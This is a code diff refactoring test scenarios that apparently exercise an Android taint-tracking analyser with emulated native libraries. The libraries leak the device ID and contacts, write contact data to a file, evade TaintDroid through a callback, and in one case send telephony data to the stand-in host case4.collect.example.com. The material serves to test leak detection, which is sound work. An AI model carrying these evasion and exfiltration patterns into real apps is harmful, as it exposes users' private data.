@@ -34,22 +34,25 @@ struct Fw {
 // Case 1: Java source -> native processing -> Java sink.
 // ---------------------------------------------------------------------------
 
-LeakScenario build_case1(android::Device& device) {
-  NativeLibBuilder lib(device, "libcase1.so");
+void emit_case1(NativeLibBuilder& lib, const android::Device& /*device*/) {
   auto& a = lib.a();
 
   // jstring process(JNIEnv*, jclass, jstring): identity "processing".
-  const GuestAddr fn_process = lib.fn();
+  lib.fn();  // fns[0]
   a.mov(R(0), R(2));
   a.ret();
-  lib.install();
+}
+
+LeakScenario build_case1(android::Device& device) {
+  const std::vector<GuestAddr>& fns =
+      load_app_lib(device, "libcase1.so", &emit_case1);
 
   auto& dvm = device.dvm;
   Fw fw(device);
   dvm::ClassObject* app = dvm.define_class("Lcase1/App;");
   Method* process =
       dvm.define_native(app, "process", "LL", kAccPublic | kAccStatic,
-                        fn_process);
+                        fns[0]);
 
   CodeBuilder cb;
   cb.invoke(fw.get_device_id, {})
@@ -70,8 +73,7 @@ LeakScenario build_case1(android::Device& device) {
 // back to Java through a new String object (QQPhoneBook's structure).
 // ---------------------------------------------------------------------------
 
-LeakScenario build_case1_prime(android::Device& device) {
-  NativeLibBuilder lib(device, "libcase1p.so");
+void emit_case1_prime(NativeLibBuilder& lib, const android::Device& device) {
   auto& a = lib.a();
   const GuestAddr get_utf = device.jni.fn("GetStringUTFChars");
   const GuestAddr new_utf = device.jni.fn("NewStringUTF");
@@ -85,7 +87,7 @@ LeakScenario build_case1_prime(android::Device& device) {
   const GuestAddr buf = lib.buffer(256);
 
   // void storeSecret(JNIEnv*, jclass, jstring)
-  const GuestAddr fn_store = lib.fn();
+  lib.fn();  // fns[0]
   a.push({R(4), R(5), LR});
   a.mov(R(4), R(0));      // env
   a.mov(R(1), R(2));      // jstring
@@ -99,20 +101,24 @@ LeakScenario build_case1_prime(android::Device& device) {
   a.pop({R(4), R(5), PC});
 
   // jstring getPostUrl(JNIEnv*, jclass)
-  const GuestAddr fn_get = lib.fn();
+  lib.fn();  // fns[1]
   a.push({R(4), LR});
   a.mov_imm32(R(1), buf);
   a.call(new_utf);        // NewStringUTF(env, buf) — env already in r0
   a.pop({R(4), PC});
-  lib.install();
+}
+
+LeakScenario build_case1_prime(android::Device& device) {
+  const std::vector<GuestAddr>& fns =
+      load_app_lib(device, "libcase1p.so", &emit_case1_prime);
 
   auto& dvm = device.dvm;
   Fw fw(device);
   dvm::ClassObject* app = dvm.define_class("Lcase1p/App;");
   Method* store = dvm.define_native(app, "storeSecret", "VL",
-                                    kAccPublic | kAccStatic, fn_store);
+                                    kAccPublic | kAccStatic, fns[0]);
   Method* get = dvm.define_native(app, "getPostUrl", "L",
-                                  kAccPublic | kAccStatic, fn_get);
+                                  kAccPublic | kAccStatic, fns[1]);
 
   CodeBuilder cb;
   cb.invoke(fw.query_contacts, {})
@@ -134,8 +140,7 @@ LeakScenario build_case1_prime(android::Device& device) {
 // recordContact -> GetStringUTFChars x3 -> fopen -> fprintf -> fclose).
 // ---------------------------------------------------------------------------
 
-LeakScenario build_case2(android::Device& device) {
-  NativeLibBuilder lib(device, "libcase2.so");
+void emit_case2(NativeLibBuilder& lib, const android::Device& device) {
   auto& a = lib.a();
   const GuestAddr get_utf = device.jni.fn("GetStringUTFChars");
   const GuestAddr fopen_fn = device.libc.fn("fopen");
@@ -148,7 +153,7 @@ LeakScenario build_case2(android::Device& device) {
 
   // jboolean recordContact(JNIEnv*, jclass, jstring id, jstring name,
   //                        jstring email)
-  const GuestAddr fn_record = lib.fn();
+  lib.fn();  // fns[0]
   a.push({R(4), R(5), R(6), R(7), LR});
   a.mov(R(4), R(0));        // env
   a.mov(R(5), R(2));        // id iref
@@ -191,12 +196,16 @@ LeakScenario build_case2(android::Device& device) {
   a.call(fclose_fn);
   a.mov_imm(R(0), 1);
   a.pop({R(4), R(5), R(6), R(7), PC});
-  lib.install();
+}
+
+LeakScenario build_case2(android::Device& device) {
+  const std::vector<GuestAddr>& fns =
+      load_app_lib(device, "libcase2.so", &emit_case2);
 
   auto& dvm = device.dvm;
   dvm::ClassObject* app = dvm.define_class("Lcom/ndroid/demos/Demos;");
   Method* record = dvm.define_native(app, "recordContact", "ZLLL",
-                                     kAccPublic | kAccStatic, fn_record);
+                                     kAccPublic | kAccStatic, fns[0]);
   Method* id_src = device.framework.contacts->find_method("getContactId");
   Method* name_src = device.framework.contacts->find_method("getContactName");
   Method* mail_src =
@@ -223,8 +232,7 @@ LeakScenario build_case2(android::Device& device) {
 // nativeCallback).
 // ---------------------------------------------------------------------------
 
-LeakScenario build_case3(android::Device& device) {
-  NativeLibBuilder lib(device, "libcase3.so");
+void emit_case3(NativeLibBuilder& lib, const android::Device& device) {
   auto& a = lib.a();
   const GuestAddr get_utf = device.jni.fn("GetStringUTFChars");
   const GuestAddr new_utf = device.jni.fn("NewStringUTF");
@@ -237,7 +245,7 @@ LeakScenario build_case3(android::Device& device) {
   const GuestAddr mth_sig = lib.cstr("(Ljava/lang/String;)V");
 
   // void evadeTaintDroid(JNIEnv*, jclass, jstring)
-  const GuestAddr fn_evade = lib.fn();
+  lib.fn();  // fns[0]
   a.push({R(4), R(5), R(6), R(7), LR});
   a.mov(R(4), R(0));  // env
   a.mov(R(5), R(2));  // jstring
@@ -273,7 +281,11 @@ LeakScenario build_case3(android::Device& device) {
   a.call(call_void_a);
   a.add_imm(SP, SP, 8);
   a.pop({R(4), R(5), R(6), R(7), PC});
-  lib.install();
+}
+
+LeakScenario build_case3(android::Device& device) {
+  const std::vector<GuestAddr>& fns =
+      load_app_lib(device, "libcase3.so", &emit_case3);
 
   auto& dvm = device.dvm;
   Fw fw(device);
@@ -288,7 +300,7 @@ LeakScenario build_case3(android::Device& device) {
                     cb_callback.take());
 
   Method* evade = dvm.define_native(app, "evadeTaintDroid", "VL",
-                                    kAccPublic | kAccStatic, fn_evade);
+                                    kAccPublic | kAccStatic, fns[0]);
   Method* concat = device.framework.string_ops->find_method("concat");
   Method* get_operator =
       device.framework.telephony->find_method("getNetworkOperator");
@@ -313,8 +325,7 @@ LeakScenario build_case3(android::Device& device) {
 // itself (CallStaticObjectMethod on a source) and leaks it natively.
 // ---------------------------------------------------------------------------
 
-LeakScenario build_case4(android::Device& device) {
-  NativeLibBuilder lib(device, "libcase4.so");
+void emit_case4(NativeLibBuilder& lib, const android::Device& device) {
   auto& a = lib.a();
   const GuestAddr find_class = device.jni.fn("FindClass");
   const GuestAddr get_mid = device.jni.fn("GetStaticMethodID");
@@ -330,7 +341,7 @@ LeakScenario build_case4(android::Device& device) {
   const GuestAddr host = lib.cstr("case4.collect.example.com");
 
   // void exfiltrate(JNIEnv*, jclass)
-  const GuestAddr fn_exfil = lib.fn();
+  lib.fn();  // fns[0]
   a.push({R(4), R(5), R(6), R(7), LR});
   a.mov(R(4), R(0));  // env
   // cls = FindClass(env, "android/telephony/TelephonyManager")
@@ -376,12 +387,16 @@ LeakScenario build_case4(android::Device& device) {
   a.call(send_fn);
   a.mov_imm(R(0), 0);
   a.pop({R(4), R(5), R(6), R(7), PC});
-  lib.install();
+}
+
+LeakScenario build_case4(android::Device& device) {
+  const std::vector<GuestAddr>& fns =
+      load_app_lib(device, "libcase4.so", &emit_case4);
 
   auto& dvm = device.dvm;
   dvm::ClassObject* app = dvm.define_class("Lcase4/App;");
   Method* exfil = dvm.define_native(app, "exfiltrate", "V",
-                                    kAccPublic | kAccStatic, fn_exfil);
+                                    kAccPublic | kAccStatic, fns[0]);
   CodeBuilder cb;
   cb.invoke(exfil, {}).return_void();
   Method* entry = dvm.define_method(app, "main", "V",
